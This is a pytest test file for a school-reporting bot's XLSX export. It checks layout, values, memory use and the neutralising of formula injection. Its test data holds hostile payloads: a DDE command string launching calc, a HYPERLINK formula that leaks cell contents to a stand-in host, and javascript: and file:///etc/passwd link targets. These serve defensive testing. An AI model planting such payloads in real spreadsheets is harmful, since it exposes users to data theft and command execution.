"""The XLSX export, read back with openpyxl: layout, values, links and formula injection."""

from __future__ import annotations

import io
import os
import tracemalloc
from dataclasses import dataclass
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from openpyxl.workbook import Workbook
from openpyxl.worksheet._writer import WorksheetWriter
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import insert, select
from sqlalchemy.dialects import postgresql
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

import exports.xlsx_sheets as sheets
import exports.xlsx_writer as writer
from bot.ui.texts import direction_name
from exports.xlsx import ExportSummary, build_export, export_filename, last_full_week
from exports.xlsx_layout import Column
from exports.xlsx_sheets import diagnostics_query, reports_query, roadmap_query
from exports.xlsx_writer import formula_like, safe_text
from models import (
    ActivityReport,
    DiagnosticRun,
    Evidence,
    EvidenceKind,
    Mark,
    Questionnaire,
    ReviewState,
    RoadmapItem,
    Role,
    RunStatus,
    School,
    User,
)
from models.enums import DIRECTION_NAMES, Direction
from models.users import visible_schools_query
from tests.conftest import World

TZ = ZoneInfo("Europe/Moscow")
START, END = date(2026, 11, 16), date(2026, 11, 22)
TODAY = date(2026, 11, 25)

INJECTIONS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    '=HYPERLINK("http://evil.example/?"&A1,"Нажми")',
    "=cmd|' /C calc'!A0",
]
EVIL = "=cmd|' /C calc'!A0"

SHEETS = ["Сводка", "Мероприятия", "Дорожные карты", "Самодиагностика", "Опросы"]
HEADERS = {
    "Сводка": [
        "Школа",
        "Отчётов за период",
        "Всего отчётов",
        "Выполнено",
        "Частично",
        "Не выполнено",
        "Мероприятий в дорожной карте",
        "С отчётом",
        "Просрочено",
        "Ожидают проверки",
        "На доработке",
        "Последняя активность",
        "Уровень самодиагностики",
    ],
    "Мероприятия": [
        "№",
        "Школа",
        "Направление",
        "Дата",
        "Форма и тема мероприятия",
        "Организатор",
        "Отметка о выполнении",
        "Проведённые мероприятия",
        "Количество и категория участников",
        "Ссылка на материал",
        "Другие материалы",
        "Автор",
        "Статус проверки",
    ],
    "Дорожные карты": [
        "Школа",
        "№ п/п",
        "Направление",
        "Мероприятие",
        "Сроки",
        "Срок",
        "Отметка о выполнении",
        "Просрочено",
        "Проведённые мероприятия",
    ],
    "Самодиагностика": [
        "Школа",
        "Анкета",
        "Дата",
        "Направление",
        "Баллы",
        "Максимум",
        "Уровень",
        "Дефициты",
    ],
    "Опросы": [
        "Школа",
        "Опрос",
        "Группа",
        "Период",
        "Статус",
        "Ответили",
        "Вопрос",
        "Вариант ответа",
        "Число ответов",
        "Доля, %",
    ],
}

MSH_RESULT = {
    "directions": [
        {
            "code": "knowledge",
            "title": "Знание",
            "points": 10,
            "max_points": 20,
            "level": "basic",
            "deficits": ["Нет кружков", "=1+1"],
        },
        {
            "code": "climate",
            "title": "Школьный климат",
            "points": 5.5,
            "max_points": 6,
            "level": "high",
            "deficits": [],
        },
    ],
    "overall": {"points": 15.5, "max_points": 26, "level": "medium"},
}
RISK_RESULT = {
    "directions": [
        {
            "code": "equipment",
            "title": "Низкий уровень оснащения школы",
            "points": 4,
            "max_points": 6,
            "level": "high",
            "deficits": ["Низкий уровень оснащения школы"],
        }
    ],
    "overall": {"points": 4, "max_points": 6, "level": "low"},
    "unknown": [],
    "estimate": True,
}


@dataclass
class Data:
    world: World
    at_school: School
    evil_author: User


def _report(school: School, held_on: date, title: str, **kwargs: Any) -> ActivityReport:
    kwargs.setdefault("mark", Mark.DONE)
    return ActivityReport(school_id=school.id, held_on=held_on, title=title, **kwargs)


@pytest.fixture
async def data(world: World, session_factory: async_sessionmaker[AsyncSession]) -> Data:
    a, b = world.school_a, world.school_b
    async with session_factory() as session, session.begin():
        at_school = School(
            municipality_id=world.municipality.id, name="@Школа полностью", short_name="@Школа"
        )
        evil_author = User(telegram_id=7, full_name=EVIL, role=Role.TEACHER, school_id=a.id)
        session.add_all([at_school, evil_author])
        await session.flush()

        i1 = RoadmapItem(
            school_id=a.id,
            position=1,
            number="1.",
            direction="knowledge",
            title="Провести педсовет",
            due_raw="до 20.11.2026 г.",
            due_date=date(2026, 11, 20),
        )
        i2 = RoadmapItem(
            school_id=a.id, position=2, number="2", title="=1+1", due_raw="В течение года"
        )
        i3 = RoadmapItem(
            school_id=a.id,
            position=3,
            number="-3",
            direction="health",
            title="Фестиваль здоровья",
            due_raw="до 01.11.2026",
            due_date=date(2026, 11, 1),
        )
        archived = RoadmapItem(school_id=a.id, position=4, title="Старое", is_archived=True)
        b_item = RoadmapItem(school_id=b.id, position=1, title="Пункт школы Б")
        session.add_all([i1, i2, i3, archived, b_item])
        await session.flush()

        one_link = _report(
            a,
            START,
            "Педсовет «Цели года»",
            roadmap_item_id=i1.id,
            organizer="Директор",
            description="Обсудили дорожную карту",
            participants_count=25,
            participants_category="педагоги",
            author_id=world.teacher.id,
            review_state=ReviewState.CONFIRMED,
        )
        several = _report(
            a,
            END,
            "День здоровья",
            direction="health",
            mark=Mark.PARTIAL,
            participants_count=120,
            author_id=world.coordinator.id,
            review_state=ReviewState.RETURNED,
        )
        session.add_all(
            [
                one_link,
                several,
                _report(a, date(2026, 11, 15), "До периода"),
                _report(a, date(2026, 11, 23), "После периода"),
                _report(
                    a, date(2026, 10, 30), "Эстафета", roadmap_item_id=i3.id, mark=Mark.PARTIAL
                ),
                _report(b, date(2026, 11, 17), "Школа Б"),
            ]
        )
        injected = [
            _report(
                a,
                date(2026, 11, 18),
                text,
                organizer=text,
                description=text,
                participants_category=text,
                author_id=evil_author.id,
                mark=Mark.NOT_DONE,
            )
            for text in INJECTIONS
        ]
        session.add_all(injected)
        await session.flush()
        session.add_all(
            [
                Evidence(report_id=one_link.id, kind=EvidenceKind.LINK, url="https://s.ru/n/1"),
                Evidence(report_id=several.id, kind=EvidenceKind.LINK, url="https://a.ru/x"),
                Evidence(report_id=several.id, kind=EvidenceKind.LINK, url="http://b.ru/y"),
                Evidence(
                    report_id=several.id,
                    kind=EvidenceKind.DOCUMENT,
                    file_id="doc",
                    file_name="протокол.pdf",
                ),
                Evidence(report_id=several.id, kind=EvidenceKind.PHOTO, file_id="photo"),
                Evidence(
                    report_id=injected[0].id,
                    kind=EvidenceKind.LINK,
                    url='=HYPERLINK("http://evil.example")',
                ),
            ]
        )

        msh = Questionnaire(
            code="msh",
            version="2024.1",
            title="Школа Минпросвещения",
            kind="levels",
            definition={},
        )
        risk = Questionnaire(
            code="risk500",
            version="2024.1",
            title="Рисковый профиль",
            kind="risk_profile",
            definition={},
        )
        session.add_all([msh, risk])
        await session.flush()
        session.add_all(
            [
                DiagnosticRun(
                    school_id=a.id,
                    questionnaire_id=msh.id,
                    status=RunStatus.COMPLETED,
                    completed_at=datetime(2026, 9, 1, tzinfo=UTC),
                    level="basic",
                    result={"directions": [], "overall": {"level": "basic"}},
                ),
                DiagnosticRun(
                    school_id=a.id,
                    questionnaire_id=msh.id,
                    status=RunStatus.COMPLETED,
                    # 22:30 UTC is already the next day in Moscow.
                    completed_at=datetime(2026, 11, 10, 22, 30, tzinfo=UTC),
                    total_points=15.5,
                    max_points=26,
                    level="medium",
                    result=MSH_RESULT,
                ),
                DiagnosticRun(school_id=a.id, questionnaire_id=msh.id),
                DiagnosticRun(
                    school_id=a.id,
                    questionnaire_id=risk.id,
                    status=RunStatus.COMPLETED,
                    completed_at=datetime(2026, 10, 1, 9, tzinfo=UTC),
                    level="low",
                    result=RISK_RESULT,
                ),
                DiagnosticRun(
                    school_id=b.id,
                    questionnaire_id=msh.id,
                    status=RunStatus.COMPLETED,
                    completed_at=datetime(2026, 10, 1, 9, tzinfo=UTC),
                    level="high",
                    result=MSH_RESULT,
                ),
            ]
        )
    return Data(world=world, at_school=at_school, evil_author=evil_author)


async def _export(
    session: AsyncSession, tmp_path: Path, schools: Any, **kwargs: Any
) -> tuple[ExportSummary, Workbook]:
    path = tmp_path / export_filename(START, END)
    summary = await build_export(
        session, schools=schools, start=START, end=END, tz=TZ, out=path, today=TODAY, **kwargs
    )
    return summary, load_workbook(path)


FIRST_DATA_ROW = 3  # a title, then the header


def _rows(ws: Worksheet) -> list[list[Any]]:
    # Any: a read-back cell is a Cell or a MergedCell, and the tests read Cell attributes.
    return [list(row) for row in ws.iter_rows(min_row=FIRST_DATA_ROW)]


def _column(ws: Worksheet, title: str) -> list[Any]:
    index = HEADERS[ws.title].index(title)
    return [row[index].value for row in ws.iter_rows(min_row=FIRST_DATA_ROW)]


async def _report_id(session: AsyncSession, title: str) -> int:
    return (await session.scalars(select(ActivityReport.id).filter_by(title=title))).one()


def _ids(data: Data) -> list[int]:
    return [data.world.school_a.id, data.at_school.id]


async def test_layout_of_every_sheet(data: Data, session: AsyncSession, tmp_path: Path) -> None:
    summary, wb = await _export(session, tmp_path, _ids(data))

    assert wb.sheetnames == SHEETS
    for name in SHEETS:
        ws = wb[name]
        title = ws["A1"]
        assert title.value.startswith(name)
        assert title.value.endswith("· Школы (2): @Школа, СОШ №2")
        assert title.font.name == "Calibri" and not title.alignment.wrap_text
        header = next(ws.iter_rows(min_row=2, max_row=2))
        assert [c.value for c in header] == HEADERS[name]
        # Found in LibreOffice: a font without a name fell back to a wide serif.
        assert all(c.font.b and c.font.name == "Calibri" and c.font.sz >= 10 for c in header)
        assert ws.freeze_panes == "A3"
        last_column = chr(ord("A") + len(HEADERS[name]) - 1)
        assert ws.auto_filter.ref == f"A2:{last_column}{ws.max_row}"
        assert ws.column_dimensions["A"].width > 5
        # Found opening the file in LibreOffice: a one-line header row hid wrapped titles.
        lines = max(len(title) // 12 + 1 for title in HEADERS[name])
        assert ws.row_dimensions[2].height >= 12 * min(lines, 2)
        # Every data row has a height: LibreOffice does not compute them when it loads a file.
        assert all(ws.row_dimensions[row].height for row in range(FIRST_DATA_ROW, ws.max_row + 1))
        setup = ws.page_setup
        assert (setup.orientation, setup.paperSize, setup.scale) == ("landscape", 9, 90)
        assert not ws.sheet_properties.pageSetUpPr or not ws.sheet_properties.pageSetUpPr.fitToPage
        assert ws.print_title_rows == "$2:$2"
        odd_footer, odd_header = ws.oddFooter, ws.oddHeader
        assert odd_footer is not None and odd_header is not None
        assert odd_footer.center.text == "Страница &P из &N"
        assert odd_header.left.text == "Период: 16.11.2026–22.11.2026"
    assert summary == ExportSummary(
        schools=2, reports=11, items=3, diagnostics=5, links=4, hyperlinks=2, files=2
    )
    assert wb["Мероприятия"].max_row == 2 + 11


async def test_summary_sheet(data: Data, session: AsyncSession, tmp_path: Path) -> None:
    _, wb = await _export(session, tmp_path, _ids(data))
    ws = wb["Сводка"]

    at, a = _rows(ws)
    assert at[0].value == "@Школа" and at[0].quotePrefix
    assert [c.value for c in at[1:11]] == [0] * 10
    assert at[11].value is None and at[12].value is None

    assert [c.value for c in a[:11]] == [
        "СОШ №2",
        11,  # one_link, several, nine injected
        14,
        3,  # one_link and the two outside the period
        2,
        9,
        3,
        2,  # i1, i3
        1,  # i3: only partial, past due
        12,
        1,
    ]
    assert a[11].value == datetime(2026, 11, 23)
    assert a[11].is_date and a[11].number_format == "DD.MM.YYYY"
    assert a[12].value == "средний"


async def test_reports_sheet(data: Data, session: AsyncSession, tmp_path: Path) -> None:
    _, wb = await _export(session, tmp_path, _ids(data))
    ws = wb["Мероприятия"]
    rows = _rows(ws)

    first, last = rows[0], rows[-1]
    assert [c.value for c in first] == [
        await _report_id(session, "Педсовет «Цели года»"),  # the report's number in the bot
        "СОШ №2",
        "Знание",  # from its roadmap item
        datetime(2026, 11, 16),
        "Педсовет «Цели года»",
        "Директор",
        "+",
        "Обсудили дорожную карту",
        "25 педагоги",  # as typed: «25 педагоги»
        "https://s.ru/n/1",
        None,
        "Учитель А",
        "подтверждено",
    ]
    assert first[3].is_date and first[3].number_format == "DD.MM.YYYY"
    assert first[6].data_type == "s"
    assert first[9].hyperlink.target == "https://s.ru/n/1"

    assert last[0].value == await _report_id(session, "День здоровья")
    assert last[2].value == "Здоровье"
    assert last[6].value == "Частично"
    assert last[8].value == "120 чел."
    # One link per cell: LibreOffice glues the lines of a hyperlink cell together.
    assert last[9].value == "https://a.ru/x"
    assert last[9].hyperlink.target == "https://a.ru/x"
    assert last[9].alignment.wrap_text
    assert last[10].value == "http://b.ru/y\nфайл: протокол.pdf\nфайл: фото"
    assert last[10].hyperlink is None
    assert (last[11].value, last[12].value) == ("Координатор А", "на доработку")

    assert _column(ws, "Отметка о выполнении")[1:10] == ["−"] * 9


async def test_period_and_school_filters(
    data: Data, session: AsyncSession, tmp_path: Path
) -> None:
    _, wb = await _export(session, tmp_path, _ids(data))

    titles = _column(wb["Мероприятия"], "Форма и тема мероприятия")
    assert "До периода" not in titles and "После периода" not in titles
    assert "Школа Б" not in titles
    for name in SHEETS:
        schools = set(_column(wb[name], "Школа"))
        assert "СОШ №5" not in schools
    assert set(_column(wb["Дорожные карты"], "Мероприятие")).isdisjoint(
        {"Пункт школы Б", "Старое"}
    )


async def test_schools_as_a_select(data: Data, session: AsyncSession, tmp_path: Path) -> None:
    summary, wb = await _export(session, tmp_path, visible_schools_query(data.world.teacher_b))

    assert _column(wb["Сводка"], "Школа") == ["СОШ №5"]
    assert _column(wb["Мероприятия"], "Форма и тема мероприятия") == ["Школа Б"]
    assert summary.schools == 1 and summary.items == 1


async def test_roadmap_sheet(data: Data, session: AsyncSession, tmp_path: Path) -> None:
    _, wb = await _export(session, tmp_path, _ids(data))
    rows = _rows(wb["Дорожные карты"])

    assert [[c.value for c in row] for row in rows] == [
        [
            "СОШ №2",
            "1.",
            "Знание",
            "Провести педсовет",
            "до 20.11.2026 г.",
            datetime(2026, 11, 20),
            "+",
            "нет",
            "16.11.2026 — Педсовет «Цели года»",
        ],
        ["СОШ №2", "2", None, "=1+1", "В течение года", None, "−", "нет", None],
        [
            "СОШ №2",
            "-3",
            "Здоровье",
            "Фестиваль здоровья",
            "до 01.11.2026",
            datetime(2026, 11, 1),
            "Частично",
            "да",
            "30.10.2026 — Эстафета",
        ],
    ]
    assert rows[0][5].number_format == "DD.MM.YYYY"
    assert rows[1][3].quotePrefix and rows[2][1].quotePrefix
    assert not rows[0][3].quotePrefix


async def test_diagnostics_sheet(data: Data, session: AsyncSession, tmp_path: Path) -> None:
    _, wb = await _export(session, tmp_path, _ids(data))
    rows = _rows(wb["Самодиагностика"])

    msh_date = datetime(2026, 11, 11)  # the Moscow date of 22:30 UTC on the 10th
    assert [[c.value for c in row] for row in rows] == [
        ["СОШ №2", "Школа Минпросвещения", msh_date, "Знание", 10, 20, "базовый",
         "Нет кружков\n=1+1"],
        ["СОШ №2", "Школа Минпросвещения", msh_date, "Школьный климат", 5.5, 6, "высокий", None],
        ["СОШ №2", "Школа Минпросвещения", msh_date, "Итого", 15.5, 26, "средний", None],
        ["СОШ №2", "Рисковый профиль", datetime(2026, 10, 1), "Низкий уровень оснащения школы",
         4, 6, "высокий (оценка бота)", "Низкий уровень оснащения школы"],
        ["СОШ №2", "Рисковый профиль", datetime(2026, 10, 1), "Итого", 4, 6,
         "низкий (оценка бота)", None],
    ]  # fmt: skip
    assert rows[0][2].number_format == "DD.MM.YYYY"


async def test_no_user_text_can_become_a_formula(
    data: Data, session: AsyncSession, tmp_path: Path
) -> None:
    _, wb = await _export(session, tmp_path, _ids(data))

    cells = [cell for ws in wb for row in ws.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    strings = [c for c in cells if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in strings)
    # Text that starts like a formula is a string cell with the quote prefix: shown as typed,
    # and still text when edited. Nothing else carries the prefix.
    formula_like = [
        c
        for c in strings
        if str(c.value).lstrip().startswith(("=", "+", "-", "@")) and c.value != "+"
    ]
    assert formula_like and all(c.quotePrefix for c in formula_like)
    assert not any(c.quotePrefix for c in strings if c.value in {"Педсовет «Цели года»", "+"})

    ws = wb["Мероприятия"]
    injected = [row for row in _rows(ws) if row[4].value != "Педсовет «Цели года»"][:-1]
    assert len(injected) == len(INJECTIONS)
    for row, text in zip(injected, INJECTIONS, strict=True):
        # Title, organizer, description, participants: the text itself, as typed, quoted.
        # (XML turns the carriage return into a line feed on the way back.)
        expected = text.replace("\r", "\n")
        assert [row[i].value for i in (4, 5, 7, 8)] == [expected] * 4
        assert all(row[i].quotePrefix and row[i].data_type == "s" for i in (4, 5, 7, 8))
        assert row[11].value == EVIL and row[11].quotePrefix
    # Not a web address: no link cell, and the text among the other materials, quoted.
    assert injected[0][9].value is None and injected[0][9].hyperlink is None
    assert injected[0][10].value == '=HYPERLINK("http://evil.example")'
    assert injected[0][10].quotePrefix and injected[0][10].hyperlink is None


def test_safe_text() -> None:
    for text in INJECTIONS:
        assert safe_text(text) == text and formula_like(text)
    assert formula_like("\u00a0\n-5") and formula_like("-2+3 отдел")
    assert not formula_like("Педсовет + родители") and not formula_like("−")
    assert safe_text("\x00=1\x0b") == "=1"
    assert safe_text(None) is None
    long = safe_text("я" * 40_000)
    assert len(long) == writer.MAX_CELL_CHARS and long.endswith("…")


async def test_hyperlinks_stop_at_the_limit(
    data: Data, session: AsyncSession, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(writer, "MAX_HYPERLINKS_PER_SHEET", 1)

    summary, wb = await _export(session, tmp_path, _ids(data))

    assert (summary.links, summary.hyperlinks) == (4, 1)
    rows = _rows(wb["Мероприятия"])
    assert rows[0][9].hyperlink.target == "https://s.ru/n/1"
    assert rows[-1][9].value == "https://a.ru/x"
    assert rows[-1][9].hyperlink is None
    linked = [c for row in wb["Мероприятия"].iter_rows() for c in row if c.hyperlink]
    assert len(linked) == 1


async def test_empty_export_to_a_stream(world: World, session: AsyncSession) -> None:
    out = io.BytesIO()
    calls: list[int] = []
    summary = await build_export(
        session, schools=[], start=START, end=END, tz=TZ, out=out, progress=calls.append
    )

    wb = load_workbook(out)
    assert wb.sheetnames == SHEETS
    assert all(wb[name].auto_filter.ref.endswith("2") for name in SHEETS)
    assert wb["Сводка"]["A1"].value.endswith("· Школы: нет")
    assert summary == ExportSummary(0, 0, 0, 0, 0, 0, 0)
    assert calls == [0]


async def test_progress_is_reported(
    data: Data, session: AsyncSession, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(writer, "PROGRESS_EVERY", 5)
    calls: list[int] = []

    await _export(session, tmp_path, _ids(data), progress=calls.append)

    total = 2 + 11 + 3 + 5
    assert calls == [5, 10, 15, 20, total]


async def test_period_must_not_be_reversed(session: AsyncSession) -> None:
    with pytest.raises(ValueError):
        await build_export(session, schools=[], start=END, end=START, tz=TZ, out=io.BytesIO())


async def test_only_web_links_are_clickable(
    world: World, session: AsyncSession, tmp_path: Path
) -> None:
    targets = ["javascript:alert(1)", "file:///etc/passwd", "https://x.ru/" + "a" * 2_100]
    async with session.begin():
        for target in targets:
            report = _report(world.school_b, START, "Ссылка")
            session.add(report)
            await session.flush()
            session.add(Evidence(report_id=report.id, kind=EvidenceKind.LINK, url=target))

    summary, wb = await _export(session, tmp_path, [world.school_b.id])

    assert (summary.links, summary.hyperlinks) == (3, 0)
    assert _column(wb["Мероприятия"], "Ссылка на материал") == [None] * 3
    assert sorted(_column(wb["Мероприятия"], "Другие материалы")) == sorted(targets)


async def test_markup_and_spaces_in_user_text_survive(
    world: World, session: AsyncSession, tmp_path: Path
) -> None:
    # Written as text by the export's own row writer: escaping and whitespace are its job.
    tricky = "  <b>Tom & \"Jerry\"</b> 'x' ]]> &amp;  "
    async with session.begin():
        report = _report(
            world.school_b, START, tricky, organizer="#N/A", description="  отступ", mark=Mark.DONE
        )
        session.add(report)
        await session.flush()
        session.add(
            Evidence(report_id=report.id, kind=EvidenceKind.LINK, url="https://x.ru/?a=1&b=2")
        )

    _, wb = await _export(session, tmp_path, [world.school_b.id])

    (row,) = _rows(wb["Мероприятия"])
    assert row[4].value == tricky and row[4].data_type == "s"
    assert row[5].value == "#N/A" and row[5].data_type == "s"  # text, not an error value
    assert row[7].value == "  отступ"
    assert row[9].hyperlink.target == "https://x.ru/?a=1&b=2"


async def test_row_writer_writes_what_openpyxl_writes(
    data: Data, session: AsyncSession, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The export serialises rows itself (speed); openpyxl's own writer must give the same."""
    _, ours = await _export(session, tmp_path, _ids(data))
    monkeypatch.setattr(writer.SheetWriter, "write_row", WorksheetWriter.write_row)
    (tmp_path / "openpyxl").mkdir()
    _, theirs = await _export(session, tmp_path / "openpyxl", _ids(data))

    def described(wb: Workbook) -> list[Any]:
        return [
            (
                ws.title,
                cell.coordinate,
                cell.value,
                cell.data_type,
                cell.number_format,
                cell.font.b,
                cell.font.u,
                cell.alignment.wrap_text,
                cell.alignment.vertical,
                cell.font.name,
                cell.font.sz,
                cell.quotePrefix,
                cell.hyperlink.target if cell.hyperlink else None,
            )
            for ws in wb
            for row in ws.iter_rows()
            for cell in row
        ]

    assert described(ours) == described(theirs)
    assert len(described(ours)) > 100


def test_a_value_the_row_writer_does_not_know_goes_through_openpyxl(tmp_path: Path) -> None:
    # The export writes text, ints, floats and dates itself; anything else (here a Decimal)
    # is handed to openpyxl's own cell writer in the middle of the row.
    workbook, quoted = writer.new_workbook()
    columns = (Column("Текст", 10), Column("Число", 10), Column("Дата", 10))
    sheet = writer.Sheet(
        workbook, quoted, "Лист", columns, writer.Progress(None), heading="Лист", period="п"
    )
    sheet.append(["a < b", Decimal("1.5"), date(2026, 11, 23)])
    sheet.close()
    workbook.save(tmp_path / "x.xlsx")

    row = [c.value for c in load_workbook(tmp_path / "x.xlsx")["Лист"][FIRST_DATA_ROW]]
    assert row == ["a < b", 1.5, datetime(2026, 11, 23)]


async def test_plain_cells_are_wrapped_and_top_aligned(
    data: Data, session: AsyncSession, tmp_path: Path
) -> None:
    # Only titles, headers, dates, links and quoted text carry a style of their own; the rest
    # take the workbook's first cell format, named explicitly for LibreOffice.
    _, wb = await _export(session, tmp_path, _ids(data))
    for ws in wb:
        for row in ws.iter_rows(min_row=FIRST_DATA_ROW):
            for cell in row:
                if cell.value is not None:
                    assert (cell.alignment.wrap_text, cell.alignment.vertical) == (True, "top")
                    assert not cell.font.b
                    assert (cell.font.name, cell.font.sz) == ("Calibri", 10)


def test_export_queries_compile_for_postgresql() -> None:
    dialect = postgresql.dialect()
    schools = select(School.id)
    for stmt in (reports_query(schools, START, END), roadmap_query(schools)):
        assert "ORDER BY" in str(stmt.compile(dialect=dialect))
    assert "row_number() OVER" in str(diagnostics_query([1]).compile(dialect=dialect))


def test_last_full_week() -> None:
    assert last_full_week(date(2026, 11, 23)) == (date(2026, 11, 16), date(2026, 11, 22))
    assert last_full_week(date(2026, 11, 22)) == (date(2026, 11, 9), date(2026, 11, 15))
    assert last_full_week(date(2026, 11, 25)) == (date(2026, 11, 16), date(2026, 11, 22))
    assert last_full_week(date(2027, 1, 1)) == (date(2026, 12, 21), date(2026, 12, 27))
    assert last_full_week(date(2027, 1, 4)) == (date(2026, 12, 28), date(2027, 1, 3))


def test_export_filename() -> None:
    assert export_filename(START, END) == "отчёт_2026-11-16_2026-11-22.xlsx"


@pytest.mark.usefixtures("i18n_ru")
def test_directions_are_named_as_the_bot_names_them_in_russian() -> None:
    assert {code: direction_name(code) for code in Direction} == DIRECTION_NAMES


# --- memory ---------------------------------------------------------------------------------
# Not timed: the peak of Python allocations (tracemalloc) while exporting N and then 4N rows.
# A report row below takes about 1.2 KB in memory, so an export that kept its rows would grow by
# that much per row; a streamed one grows by nothing beyond the batch it holds.
GROWTH_PER_ROW_BYTES = 200


async def _add_reports(
    session_factory: async_sessionmaker[AsyncSession], school_id: int, rows: int
) -> None:
    async with session_factory() as session, session.begin():
        await session.execute(
            insert(ActivityReport),
            [
                {
                    "school_id": school_id,
                    "held_on": START,
                    "title": f"Мероприятие {n} " + "т" * 200,
                    "description": "о" * 300,
                    "mark": Mark.DONE,
                }
                for n in range(rows)
            ],
        )


async def _export_peak(
    session_factory: async_sessionmaker[AsyncSession], school_id: int, out: Path
) -> int:
    async with session_factory() as session:
        tracemalloc.start()
        try:
            await build_export(session, schools=[school_id], start=START, end=END, tz=TZ, out=out)
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()


async def _peaks(
    session_factory: async_sessionmaker[AsyncSession], school_id: int, rows: int, out: Path
) -> tuple[int, int]:
    """Peaks at `rows` and at 4 x `rows` reports, after a first export warmed the caches."""
    await _add_reports(session_factory, school_id, rows)
    await _export_peak(session_factory, school_id, out)
    small = await _export_peak(session_factory, school_id, out)
    await _add_reports(session_factory, school_id, 3 * rows)
    return small, await _export_peak(session_factory, school_id, out)


async def test_memory_does_not_grow_with_rows(
    world: World,
    session_factory: async_sessionmaker[AsyncSession],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Small batches, so a few hundred rows are already many batches: cheap enough for every run.
    monkeypatch.setattr(sheets, "YIELD_PER", 50)
    rows = 200

    small, large = await _peaks(session_factory, world.school_a.id, rows, tmp_path / "x.xlsx")

    assert large - small < 3 * rows * GROWTH_PER_ROW_BYTES, (small, large)


@pytest.mark.skipif(not os.environ.get("EXPORT_MEMORY_CHECK"), reason="EXPORT_MEMORY_CHECK unset")
async def test_memory_does_not_grow_with_rows_at_full_batches(
    world: World, session_factory: async_sessionmaker[AsyncSession], tmp_path: Path
) -> None:
    """The same at the real batch size: 5,000 and 20,000 rows (about 40 s; opt-in)."""
    rows = 5_000
    small, large = await _peaks(session_factory, world.school_a.id, rows, tmp_path / "x.xlsx")
    assert large - small < 3 * rows * GROWTH_PER_ROW_BYTES, (small, large)
